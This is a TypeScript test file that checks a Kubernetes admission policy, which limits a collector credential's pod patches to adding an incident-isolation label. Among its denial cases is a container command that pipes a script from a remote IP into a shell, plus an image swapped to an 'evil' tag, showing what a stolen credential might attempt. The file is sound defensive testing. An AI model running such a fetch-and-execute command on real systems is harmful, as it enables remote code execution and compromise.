// The optional ValidatingAdmissionPolicy that narrows `patch pods` to the isolate label. Its CEL is
// evaluated here (./admission.ts, which says where that engine differs from the API server's) on
// the lab's pod before and after the provider's own --isolate patch, and on what a stolen
// collector credential would send instead. The server-side dry run its comment shows is the
// check against a real API server.
import { afterEach, describe, expect, it } from 'vitest';
import { REGISTRY } from '../../../src/providers/registry.js';
import { COLLECTORS_GROUP, loadRbacManifests, mergePatch } from '../../../src/lab/kubernetes/index.js';
import { ISOLATION_LABEL, labelValueFor } from '../../../src/providers/kubernetes/isolate.js';
import { K8S_OPERATIONS } from '../../../src/providers/kubernetes/operations.js';
import { createKubernetesProvider } from '../../../src/providers/kubernetes/index.js';
import { parseTarget } from '../../../src/providers/targets.js';
import type { AdmissionRequest } from './admission.js';
import { admit, admitChange as admitShippedChange, itAnswersItsDryRunCheckAsItsCommentSays, itIsAGaPolicyThatDeniesAndFailsClosed, loadAdmissionPolicy, updateBy } from './admission.js';
import type { K8sFixture } from './helpers.js';
import { contextFor, entriesOf, openTestCase, startFixture } from './helpers.js';

const shipped = loadAdmissionPolicy('pod-patch-admission-policy.yaml');
const { policy } = shipped;
const [SPEC, OTHER_LABELS, REMOVED_LABELS, ANNOTATIONS, FINALIZERS, OWNERS] = policy.spec.validations.map((v) => v.message);

interface Pod {
  metadata: { name: string; namespace: string; labels?: Record<string, string>; annotations?: Record<string, string>; finalizers?: string[]; ownerReferences?: Array<Record<string, unknown>> };
  spec: { containers: Array<{ name: string; image: string; command?: string[] }> };
}

let fixture: K8sFixture | undefined;
afterEach(async () => {
  await fixture?.close();
  fixture = undefined;
});

function patchBy(pod: Pod, groups: string[] = [COLLECTORS_GROUP], username = 'cloud-custody-collector'): AdmissionRequest {
  return updateBy('pods', pod, groups, username);
}

function admitChange(before: Pod, change: (pod: Pod) => unknown, request = patchBy(before)) {
  return admitShippedChange(policy, before, change, request);
}

/** The merge patch isolatePod sends (isolate.ts), as the ledger's change.requested records its labels. */
const isolatePatch = (caseId: string) => ({ metadata: { labels: { [ISOLATION_LABEL]: labelValueFor(caseId) } } });

/** The demo's compromised pod as the lab serves it before any change: owned by a ReplicaSet, labelled, no annotations. */
async function labPod(): Promise<Pod> {
  fixture ??= await startFixture();
  return structuredClone(fixture.lab.getObject('pods', 'shop', fixture.scenario.compromisedPod)) as unknown as Pod;
}

describe('the optional pod-patch admission policy (policies/kubernetes/pod-patch-admission-policy.yaml)', () => {
  itIsAGaPolicyThatDeniesAndFailsClosed(shipped);

  it('matches updates of pods only, which among the provider\'s operations is the isolate label patch alone', () => {
    expect(policy.spec.matchConstraints.resourceRules).toEqual([{ apiGroups: [''], apiVersions: ['v1'], operations: ['UPDATE'], resources: ['pods'] }]);
    // A PATCH is admitted as UPDATE; exec (CONNECT on pods/exec), logs and the helper pods' CREATE and DELETE are not matched.
    const updatesOfPods = Object.entries(K8S_OPERATIONS).filter(([, op]) => op.apiGroup === '' && op.resource === 'pods' && !op.subresource && op.verb === 'patch');
    expect(updatesOfPods.map(([name]) => name)).toEqual(['labelPod']);
  });

  it('applies to the group the shipped bindings grant `patch pods` to, and to nobody else', () => {
    const groups = loadRbacManifests()
      .filter((o) => o.kind === 'RoleBinding' || o.kind === 'ClusterRoleBinding')
      .flatMap((o) => ((o as { subjects?: Array<{ kind: string; name: string }> }).subjects ?? []).filter((s) => s.kind === 'Group').map((s) => s.name));
    expect(new Set(groups)).toEqual(new Set([COLLECTORS_GROUP]));
    expect(policy.spec.matchConditions).toEqual([{ name: 'custody-collectors', expression: `'${COLLECTORS_GROUP}' in request.userInfo.groups` }]);
  });

  it('allows the provider\'s own --isolate patch, as the lab stored it, and nothing of the pod but the label changed', async () => {
    const before = await labPod();
    const { lab, scenario } = fixture!;
    const kase = await openTestCase(fixture!, 'IR-VAP-1');
    const outcome = await createKubernetesProvider(fixture!.config, {}, REGISTRY.createServices()).collect(parseTarget(`k8s:lab/shop/${scenario.compromisedPod}`), contextFor(kase, { isolate: true }));
    expect(outcome.status, outcome.reason).toBe('collected');
    const after = lab.getObject('pods', 'shop', scenario.compromisedPod) as unknown as Pod;
    const collector = scenario.cluster.subjects[scenario.collectorToken]!;
    expect(admit(policy, { request: patchBy(before, collector.groups, collector.user), object: after, oldObject: before })).toEqual({ matched: true, denied: [] });
    // The patch the ledger says was asked for is the one evaluated below on other pods.
    const asked = entriesOf(kase, 'change.requested').find((e) => e.data.change === 'label-pod');
    expect(asked?.data.labels).toEqual(isolatePatch('IR-VAP-1').metadata.labels);
    expect(after.metadata.labels).toEqual({ ...before.metadata.labels, [ISOLATION_LABEL]: 'IR-VAP-1' });
    await kase.release();
  });

  it('allows the isolate patch on a pod with no labels or annotations at all, and on a pod another case isolated', async () => {
    const before = await labPod();
    // The API server omits empty maps: a pod without labels has no metadata.labels.
    delete before.metadata.labels;
    delete before.metadata.annotations;
    expect(admitChange(before, (pod) => mergePatch(pod, isolatePatch('IR-VAP-2')))).toEqual({ matched: true, denied: [] });
    expect(admitChange(before, (pod) => mergePatch(pod, { metadata: { labels: { team: 'shop' } } }))).toEqual({ matched: true, denied: [OTHER_LABELS] });
    expect(admitChange(before, (pod) => mergePatch(pod, { metadata: { annotations: { x: 'y' } } }))).toEqual({ matched: true, denied: [ANNOTATIONS] });

    const isolated = mergePatch(await labPod(), isolatePatch('IR-VAP-1')) as Pod;
    // A second case sets its own value: its deny-all NetworkPolicy selects the pod from then on.
    expect(admitChange(isolated, (pod) => mergePatch(pod, isolatePatch('IR-VAP-2')))).toEqual({ matched: true, denied: [] });
  });

  itAnswersItsDryRunCheckAsItsCommentSays(shipped, labPod, (before) => patchBy(before));

  it('denies a collector credential every other change of the pod, naming what it may not do', async () => {
    const before = await labPod();
    const denied = (change: (pod: Pod) => unknown) => admitChange(before, change);
    expect(denied((pod) => { pod.spec.containers[0]!.image = 'registry.example.com/shop/web:evil'; })).toEqual({ matched: true, denied: [SPEC] });
    expect(denied((pod) => { pod.spec.containers[0]!.command = ['/bin/sh', '-c', 'curl -s http://45.9.148.125/x.sh | sh']; })).toEqual({ matched: true, denied: [SPEC] });
    expect(denied((pod) => mergePatch(pod, { metadata: { labels: { team: 'shop' } } }))).toEqual({ matched: true, denied: [OTHER_LABELS] });
    expect(denied((pod) => mergePatch(pod, { metadata: { labels: { app: 'debug' } } }))).toEqual({ matched: true, denied: [OTHER_LABELS] });
    expect(denied((pod) => mergePatch(pod, { metadata: { labels: { app: null } } }))).toEqual({ matched: true, denied: [REMOVED_LABELS] });
    expect(denied((pod) => mergePatch(pod, { metadata: { labels: null } }))).toEqual({ matched: true, denied: [REMOVED_LABELS] });
    // The isolate label does not carry another change through.
    expect(denied((pod) => mergePatch(mergePatch(pod, isolatePatch('IR-VAP-3')), { metadata: { labels: { team: 'shop' } } }))).toEqual({ matched: true, denied: [OTHER_LABELS] });
    expect(denied((pod) => mergePatch(pod, { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-11-26T04:00:00Z' } } }))).toEqual({ matched: true, denied: [ANNOTATIONS] });
    expect(denied((pod) => mergePatch(pod, { metadata: { finalizers: ['example.com/hold'] } }))).toEqual({ matched: true, denied: [FINALIZERS] });
    expect(denied((pod) => mergePatch(pod, { metadata: { ownerReferences: null } }))).toEqual({ matched: true, denied: [OWNERS] });
    expect(denied((pod) => { pod.metadata.ownerReferences![0]!.controller = false; })).toEqual({ matched: true, denied: [OWNERS] });
    // Several at once: every refusal is named, in the policy's order.
    expect(denied((pod) => mergePatch(pod, { metadata: { labels: null, annotations: { x: 'y' } }, spec: { activeDeadlineSeconds: 1 } }))).toEqual({ matched: true, denied: [SPEC, REMOVED_LABELS, ANNOTATIONS] });
  });

  it('denies lifting an isolation, and changing or removing annotations and finalizers the pod already has', async () => {
    const base = await labPod();
    const before = mergePatch(base, { metadata: { labels: { [ISOLATION_LABEL]: 'IR-VAP-1' }, annotations: { 'example.com/owner': 'shop' }, finalizers: ['example.com/hold'] } }) as Pod;
    const denied = (change: (pod: Pod) => unknown) => admitChange(before, change);
    expect(denied((pod) => mergePatch(pod, { metadata: { labels: { [ISOLATION_LABEL]: null } } }))).toEqual({ matched: true, denied: [REMOVED_LABELS] });
    expect(denied((pod) => mergePatch(pod, { metadata: { annotations: { 'example.com/owner': 'other' } } }))).toEqual({ matched: true, denied: [ANNOTATIONS] });
    expect(denied((pod) => mergePatch(pod, { metadata: { annotations: null } }))).toEqual({ matched: true, denied: [ANNOTATIONS] });
    expect(denied((pod) => mergePatch(pod, { metadata: { finalizers: null } }))).toEqual({ matched: true, denied: [FINALIZERS] });
    expect(denied((pod) => mergePatch(pod, isolatePatch('IR-VAP-1')))).toEqual({ matched: true, denied: [] });
  });

  it('does not match anyone else, nor what is not an update of a pod', async () => {
    const before = await labPod();
    const swapImage = (pod: Pod) => { pod.spec.containers[0]!.image = 'registry.example.com/shop/web:1.8.3'; };
    expect(admitChange(before, swapImage, patchBy(before, ['system:masters'], 'admin'))).toEqual({ matched: false });
    expect(admitChange(before, swapImage, patchBy(before, ['system:serviceaccounts', 'system:serviceaccounts:kube-system'], 'system:serviceaccount:kube-system:replicaset-controller'))).toEqual({ matched: false });
    // A collector group spelt differently is another group.
    expect(admitChange(before, swapImage, patchBy(before, ['cloud-custody:collector']))).toEqual({ matched: false });
    expect(admitChange(before, swapImage, { ...patchBy(before), subResource: 'status' })).toEqual({ matched: false });
    expect(admitChange(before, swapImage, { ...patchBy(before), operation: 'CREATE' })).toEqual({ matched: false });
  });
});
